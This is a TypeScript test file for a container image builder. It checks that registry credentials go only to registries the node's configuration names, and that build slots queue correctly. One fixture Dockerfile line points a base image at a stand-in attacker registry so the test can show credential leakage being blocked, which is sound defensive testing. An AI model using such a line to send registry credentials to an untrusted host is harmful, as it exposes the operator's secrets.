import assert from 'node:assert/strict';
import { test } from 'node:test';
import { credentialHostsOf, parseDockerfile } from '@dsec/images';
import { isDsecError } from '@dsec/core';
import { credentialHosts, StorageSlots } from './image-builder.js';

// Attack on API builds (adversarial review of h/imgbuild): a tenant's Dockerfile names the
// registry; the node's DSEC_REGISTRY_USERNAME/PASSWORD must not be sent to a host it picks.

const DOCKERFILE = [
  'FROM attacker.example:443/steal:1 AS one',
  'FROM Registry.Lab:5000/base:1 AS two',
  'FROM localhost/x:1',
  'FROM one',
  'FROM debian:12',
].join('\n');

test("an API build's FROM gets the node's registry credentials only for registries the node's config names", () => {
  const allowed = credentialHosts({
    insecure: ['registry.lab:5000'],
    mirrors: { 'docker.io': ['mirror.lab:5000/hub', 'mirror2.lab'] },
  });
  assert.deepEqual(allowed.sort(), [
    'docker.io',
    'mirror.lab:5000',
    'mirror2.lab',
    'registry.lab:5000',
  ]);
  const parsed = parseDockerfile(DOCKERFILE);
  assert.deepEqual([...credentialHostsOf(parsed, allowed)], ['Registry.Lab:5000']);
  assert.deepEqual([...credentialHostsOf(parsed, [])], []);
  // The operator's own build (`dsec image build`) keeps sending them wherever its FROM names.
  assert.deepEqual([...credentialHostsOf(parsed)].sort(), [
    'Registry.Lab:5000',
    'attacker.example:443',
    'localhost',
  ]);
});

test('build slots: handed out once each, waiters served in order, a cancelled waiter leaves the queue', async () => {
  const slots = new StorageSlots(2);
  assert.deepEqual([await slots.take(), await slots.take()], [0, 1]);
  const order: number[] = [];
  const first = slots.take().then((s) => order.push(s));
  const gone = new AbortController();
  const cancelled = slots.take(gone.signal);
  const third = slots.take().then((s) => order.push(s));
  gone.abort();
  await assert.rejects(cancelled, (e: unknown) => isDsecError(e, 'aborted'));
  slots.give(1);
  slots.give(0);
  await Promise.all([first, third]);
  assert.deepEqual(order, [1, 0], 'the cancelled waiter got no slot; the others in order');
  assert.throws(() => new StorageSlots(0), RangeError);
});
